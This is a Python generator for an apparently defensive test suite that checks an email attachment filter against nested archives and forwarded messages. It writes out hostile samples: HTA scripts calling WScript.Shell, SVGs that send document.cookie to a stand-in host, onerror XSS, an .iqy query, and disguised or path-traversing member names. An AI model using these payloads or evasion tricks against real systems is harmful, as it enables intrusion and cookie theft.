#!/usr/bin/env python3
"""Issue 12, Deliver 1 "at every nesting level": the name and type rules
for archive members and for parts of forwarded messages.

  member-*   members of a zip that will be rebuilt: names with no
             extension, a script extension in any spelling, paths that
             leave the archive, CP932 names, bidi overrides;
  deep-*     active text and declared types inside forwarded messages,
             zip in zip, tar, tar.gz, a lone gzip.
"""
import sys

import hostile as H

s = H.Suite("gen_nesting")
BODY = H.text("Please see the attachment.\n")
HTA = b'<html><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></html>\r\n'
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch(\'http://x.example.invalid/\'+'
       b'document.cookie)</script></svg>\r\n')
IQY = b"WEB\r\n1\r\nhttp://data.example.invalid/q\r\n"
TXT = b"MEMBER-TOKEN meeting notes\r\n"


def add(name, title, parts, checks, family="nesting"):
    s.case(name, family, title, H.message(H.multipart("mixed", [BODY] + parts), s.msgid(name)), checks)


def zipcase(name, title, members, checks):
    add(name, title, [H.leaf("application/zip", H.zip_bytes(members), filename="bundle.zip")],
        [("present", {"pattern": "MEMBER-TOKEN"})] + checks, family="member-name")


zipcase("member-noext", "a text member without an extension", [("README", TXT)], [])
zipcase("member-noext-hta", "an HTA member without an extension", [("notes.txt", TXT), ("invoice", HTA)],
        [("inert", {"pattern": "WScript.Shell"})])
zipcase("member-upper", "a member named INVOICE.HTA", [("notes.txt", TXT), ("INVOICE.HTA", HTA)],
        [("inert", {"pattern": "WScript.Shell"})])
zipcase("member-trailing-dot", "a member named invoice.hta.", [("notes.txt", TXT), ("invoice.hta.", HTA)],
        [("inert", {"pattern": "WScript.Shell"})])
zipcase("member-trailing-space", "a member named 'invoice.hta '", [("notes.txt", TXT), ("invoice.hta ", HTA)],
        [("inert", {"pattern": "WScript.Shell"})])
zipcase("member-double-ext", "a member named invoice.pdf.hta", [("notes.txt", TXT), ("invoice.pdf.hta", HTA)],
        [("inert", {"pattern": "WScript.Shell"})])
zipcase("member-txt-html", "a .txt member that is HTML (passive under .txt)",
        [("page.txt", b"<html><body>MEMBER-TOKEN<script>alert(1)</script></body></html>\r\n")], [])
zipcase("member-traversal", "a member path that climbs out", [("../../../Startup/notes.txt", TXT)], [])
zipcase("member-backslash", "a member path with backslashes", [("..\\..\\Startup\\notes.txt", TXT)], [])
zipcase("member-absolute", "an absolute member path", [("/etc/notes.txt", TXT)], [])
zipcase("member-drive", "a member path with a drive letter", [("C:\\Users\\Public\\notes.txt", TXT)], [])
zipcase("member-rlo", "a member name with a right-to-left override",
        [("notes.txt", TXT), ("invoice\u202eatx.hta", HTA)], [("inert", {"pattern": "WScript.Shell"})])
zipcase("member-cp932-hta", "a member with a CP932 name ending .hta (no UTF-8 flag)",
        [("notes.txt", TXT), ("請求書.hta".encode("cp932"), HTA)], [("inert", {"pattern": "WScript.Shell"})])
zipcase("member-cp932-txt", "a member with a CP932 name ending .txt",
        [("議事録.txt".encode("cp932"), TXT)], [("delivered", {"name": "*議事録*", "kind": "member"})])
zipcase("member-svg-evasive", "an SVG member libmagic calls text/plain",
        [("notes.txt", TXT), ("logo.svg", b"\r\n<!-- logo -->\r\n<a:svg xmlns:a=\"http://www.w3.org/2000/svg\" "
                                         b"onload=\"alert(document.cookie)\"/>\r\n")],
        [("absent", {"pattern": "alert(document.cookie)"})])
zipcase("member-iqy", "an .iqy member", [("notes.txt", TXT), ("data.iqy", IQY)],
        [("absent", {"pattern": "data.example.invalid/q"}), ("listed", {"name": "data.iqy"})])
zipcase("member-dir-hta", "an HTA in a folder of the zip", [("notes.txt", TXT), ("docs/2026/run.hta", HTA)],
        [("inert", {"pattern": "WScript.Shell"})])
zipcase("member-rename-collision", "members a.hta and a.hta.txt (a rename must not make two equal names)",
        [("a.hta.txt", TXT), ("a.hta", b"MEMBER-TOKEN second\r\n")], [])
zipcase("member-case-collision", "members NOTES.TXT and notes.txt", [("NOTES.TXT", TXT), ("notes.txt", TXT)], [])
zipcase("member-many-dots", "a member named a.b.c.d.hta", [("notes.txt", TXT), ("a.b.c.d.hta", HTA)],
        [("inert", {"pattern": "WScript.Shell"})])

FWD = "nesting"
inner = H.inner_message(H.multipart("mixed", [
    H.text("FWD-TOKEN forwarded\n"),
    H.leaf("text/plain; charset=utf-8", HTA, filename="invoice.hta", disposition="inline", cte="8bit")], boundary="in"))
add("deep-fwd-inline-hta", "a forwarded message with an inline text part named invoice.hta", [H.rfc822(inner)],
    [("present", {"pattern": "FWD-TOKEN"}), ("inert", {"pattern": "WScript.Shell"})])
inner = H.inner_message(H.multipart("mixed", [
    H.text("FWD-TOKEN forwarded\n"),
    H.leaf("text/html; charset=utf-8", b"Dear user <img src=x onerror=alert(document.cookie)>\r\n",
           filename="note.txt")], boundary="in"))
add("deep-fwd-declared-html", "a forwarded message with a text/html attachment named note.txt", [H.rfc822(inner)],
    [("present", {"pattern": "FWD-TOKEN"}), ("inert", {"pattern": "onerror"})])
inner = H.inner_message(H.multipart("mixed", [H.text("FWD-TOKEN\n"), H.leaf("image/svg+xml", SVG,
                                                                             filename="logo.svg")], boundary="in"))
add("deep-fwd-b64-svg", "an SVG in a base64 forwarded message", [H.rfc822(inner, cte="base64")],
    [("present", {"pattern": "FWD-TOKEN"}), ("absent", {"pattern": "document.cookie"})])
inner2 = H.inner_message(H.multipart("mixed", [H.text("FWD2-TOKEN\n"), H.rfc822(inner)], boundary="in2"))
add("deep-fwd-fwd-svg", "an SVG two forwarded messages deep", [H.rfc822(inner2)],
    [("present", {"pattern": "FWD2-TOKEN"}), ("absent", {"pattern": "document.cookie"})])
inner = H.inner_message(H.multipart("mixed", [H.text("FWD-TOKEN\n"), H.leaf("application/zip", H.zip_bytes(
    [("data.iqy", IQY), ("notes.txt", TXT)]), filename="q.zip")], boundary="in"))
add("deep-fwd-zip-iqy", "an .iqy in a zip in a forwarded message", [H.rfc822(inner)],
    [("present", {"pattern": "MEMBER-TOKEN"}), ("absent", {"pattern": "data.example.invalid/q"})])
add("deep-zip-zip-svg", "an SVG in a zip in a zip",
    [H.leaf("application/zip", H.zip_bytes([("inner.zip", H.zip_bytes([("logo.svg", SVG), ("notes.txt", TXT)]))]),
            filename="outer.zip")],
    [("present", {"pattern": "MEMBER-TOKEN"}), ("absent", {"pattern": "document.cookie"})])
add("deep-tar-hta", "an HTA in a tar",
    [H.leaf("application/x-tar", H.tar_bytes([("run.hta", HTA), ("notes.txt", TXT)]), filename="bundle.tar")],
    [("present", {"pattern": "MEMBER-TOKEN"}), ("inert", {"pattern": "WScript.Shell"})])
add("deep-tgz-svg", "an SVG in a tar.gz",
    [H.leaf("application/gzip", H.tar_bytes([("logo.svg", SVG), ("notes.txt", TXT)], gz=True),
            filename="bundle.tar.gz")],
    [("present", {"pattern": "MEMBER-TOKEN"}), ("absent", {"pattern": "document.cookie"})])
add("deep-svgz", "a gzip-compressed SVG (.svgz)",
    [H.leaf("image/svg+xml", H.gzip_bytes(SVG, "logo.svg"), filename="logo.svgz")],
    [("absent", {"pattern": "document.cookie"})])
add("deep-gz-hta", "a gzip of an HTA named invoice.hta.gz",
    [H.leaf("application/gzip", H.gzip_bytes(HTA, "invoice.hta"), filename="invoice.hta.gz")],
    [("inert", {"pattern": "WScript.Shell"})])
add("deep-gz-noname-hta", "a gzip of an HTA whose stored name is invoice.hta, sent as data.gz",
    [H.leaf("application/gzip", H.gzip_bytes(HTA, "invoice.hta"), filename="data.gz")],
    [("inert", {"pattern": "WScript.Shell"})])
add("deep-zip-eml-hta", "a forwarded .eml inside a zip, carrying an HTA",
    [H.leaf("application/zip", H.zip_bytes([("fwd.eml", H.inner_message(H.multipart("mixed", [
        H.text("EML-TOKEN\n"), H.leaf("application/hta", HTA, filename="run.hta")], boundary="z")))]),
        filename="mail.zip")],
    [("inert", {"pattern": "WScript.Shell"})])

sys.exit(s.main())
